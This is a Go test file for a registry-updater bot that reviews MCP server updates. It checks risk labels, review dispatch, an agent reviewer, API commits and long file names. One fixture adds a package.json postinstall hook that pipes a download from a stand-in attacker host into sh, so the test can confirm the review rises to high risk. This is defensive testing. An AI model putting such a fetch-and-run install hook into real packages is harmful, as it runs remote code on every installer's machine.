package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mcp-registry/updater/gitops/gittest"
)

// TestReviewLabelsReplacedHumansKept: when a PR moves to a riskier target
// the review's labels are replaced, the check and the single report
// comment follow, and a label a maintainer added stays.
func TestReviewLabelsReplacedHumansKept(t *testing.T) {
	f := newRegistryFixture(t, map[string]int{"tool": 0}, 2)
	f.pass(exitOK)
	pr := f.openPRs()["tool"]
	if !contains(pr.Labels, "security-risk:info") {
		t.Fatalf("first review labels %v, want security-risk:info", pr.Labels)
	}
	f.gh.AddLabel(pr.Number, "needs-docs")

	// Upstream adds an install hook: the review must rise to high.
	f.ups["tool"].repo.Commit("main", "add a hook", gittest.Files(map[string]string{
		"src/package.json": "{\n  \"name\": \"tool\",\n  \"scripts\": {\"postinstall\": \"curl https://evil.example/x | sh\"}\n}\n",
	}))
	rep := f.pass(exitOK)
	got := f.gh.PR(pr.Number)
	for _, want := range []string{"needs-docs", "pin-update", "security-risk:high"} {
		if !contains(got.Labels, want) {
			t.Errorf("labels %v lack %s", got.Labels, want)
		}
	}
	if contains(got.Labels, "security-risk:info") {
		t.Errorf("labels %v still hold the old risk", got.Labels)
	}
	var risk string
	for _, d := range rep.Decisions {
		if d.Server == "tool" && d.Review != nil {
			risk = d.Review.Risk
		}
	}
	if risk != "high" {
		t.Errorf("report says risk %q, want high", risk)
	}
	runs := f.gh.CheckRuns(got.HeadSHA)
	if len(runs) != 1 || runs[0].Conclusion != "failure" { // high fails under the default --fail-on high
		t.Errorf("check runs on the new head %+v, want one failure", runs)
	}
	reviews := f.reviewComments(pr.Number)
	for _, c := range reviews {
		if !strings.Contains(c, "postinstall") {
			t.Errorf("the review comment was not updated:\n%s", c)
		}
	}
	if len(reviews) != 1 {
		t.Errorf("%d review comments, want one updated in place", len(reviews))
	}
}

// TestReviewDispatch: --review dispatch sends a repository_dispatch with
// the documented payload, and the built-in review still runs.
func TestReviewDispatch(t *testing.T) {
	f := newRegistryFixture(t, map[string]int{"tool": 0}, 2)
	f.pass(exitOK, "--review", "dispatch", "--review-repo", "security/reviewer")
	pr := f.openPRs()["tool"]
	ds := f.gh.Dispatches()
	if len(ds) != 1 || ds[0].Repo != "security/reviewer" || ds[0].EventType != "security-review" {
		t.Fatalf("dispatches %+v", ds)
	}
	var payload map[string]any
	if err := json.Unmarshal(ds[0].Payload, &payload); err != nil {
		t.Fatal(err)
	}
	want := map[string]any{
		"server": "tool", "pull_request": float64(pr.Number), "project": f.ups["tool"].url, "directory": "src",
		"base": f.ups["tool"].commits[0], "head": f.ups["tool"].commits[1],
	}
	for k, v := range want {
		if payload[k] != v {
			t.Errorf("payload[%s] = %v, want %v", k, payload[k], v)
		}
	}
	if !contains(pr.Labels, "security-risk:info") {
		t.Errorf("built-in review did not run: labels %v", pr.Labels)
	}
}

// TestReviewAgentCombined: an agent reviewer's verdict is combined with
// the built-in one (the higher wins), and it saw the code, not the token.
func TestReviewAgentCombined(t *testing.T) {
	f := newRegistryFixture(t, map[string]int{"tool": 0}, 2)
	// The agent may run as another user (as root, the bot drops it to
	// nobody): what it saw goes into its report, the only way out.
	agent := `{ echo "# Agent review"; ls "$REVIEW_CODE_DIR"; env; } > "$REVIEW_OUTPUT_DIR/report.md";
printf 'security-risk:medium\n' > "$REVIEW_OUTPUT_DIR/labels.txt"`
	reports := t.TempDir()
	f.pass(exitOK, "--review", "command", "--reviewer-cmd", agent, "--report-dir", reports)
	pr := f.openPRs()["tool"]
	if !contains(pr.Labels, "security-risk:medium") {
		t.Errorf("labels %v, want the agent's medium", pr.Labels)
	}
	saw, err := os.ReadFile(filepath.Join(reports, "tool", "report.md"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(saw), "README.md") || !strings.Contains(string(saw), "REVIEW_HEAD="+f.ups["tool"].commits[1]) {
		t.Errorf("the agent did not get the code and the range:\n%s", saw)
	}
	if strings.Contains(string(saw), f.gh.Token) || strings.Contains(string(saw), "GITHUB_TOKEN") {
		t.Error("the agent saw the token")
	}
	labels, err := os.ReadFile(filepath.Join(reports, "tool", "labels.txt"))
	if err != nil || string(labels) != "security-risk:medium\n" {
		t.Errorf("report dir labels.txt = %q (%v)", labels, err)
	}
}

// TestCommitViaAPI: --commit-via api builds the bot's commit through the
// Git Data API instead of a push; the PR is the same.
func TestCommitViaAPI(t *testing.T) {
	f := newRegistryFixture(t, map[string]int{"tool": 0}, 2)
	f.gh.ResetLog()
	f.pass(exitOK, "--commit-via", "api")
	if p := f.pushes(); p != 0 {
		t.Errorf("%d git pushes, want 0 with --commit-via api", p)
	}
	if n := f.gh.Count("POST", "/repos/"+f.gh.Owner+"/"+f.gh.Repo+"/git/commits"); n != 1 {
		t.Errorf("%d commits created through the API, want 1", n)
	}
	pr, ok := f.openPRs()["tool"]
	if !ok {
		t.Fatal("no PR")
	}
	head, _ := f.gh.File(pr.Head, "servers/tool/server.yaml")
	if !strings.Contains(head, "commit: "+f.ups["tool"].commits[1]) {
		t.Errorf("branch file:\n%s", head)
	}
	// A second pass finds the branch right and writes nothing.
	f.gh.ResetLog()
	f.pass(exitOK, "--commit-via", "api")
	if w := f.gh.Writes(); len(w) != 0 {
		t.Errorf("second pass wrote %+v", w)
	}
}

// TestAgentCopyLeavesOutLongNames: a file name longer than any file system
// takes aborted the agent's copy (and lost its review). It is left out
// with a finding; the agent still reviews the rest.
func TestAgentCopyLeavesOutLongNames(t *testing.T) {
	f := newRegistryFixture(t, map[string]int{"long": 0}, 1)
	f.ups["long"].repo.Commit("main", "a long name", gittest.Files(map[string]string{
		"src/" + strings.Repeat("n", 300) + ".go": "package main\n", "src/main.go": "package main // 2\n",
	}))
	agent := `ls "$REVIEW_CODE_DIR/src" > "$REVIEW_OUTPUT_DIR/report.md"; printf 'security-risk:low\n' > "$REVIEW_OUTPUT_DIR/labels.txt"`
	reports := t.TempDir()
	f.pass(exitOK, "--review", "command", "--reviewer-cmd", agent, "--report-dir", reports)
	report, err := os.ReadFile(filepath.Join(reports, "long", "report.md"))
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(report), "review did not complete") || !strings.Contains(string(report), "main.go") {
		t.Errorf("the agent's review was lost:\n%s", report)
	}
	if !strings.Contains(string(report), "left out of the agent reviewer's copy") {
		t.Errorf("no finding for the entry left out:\n%s", report)
	}
}
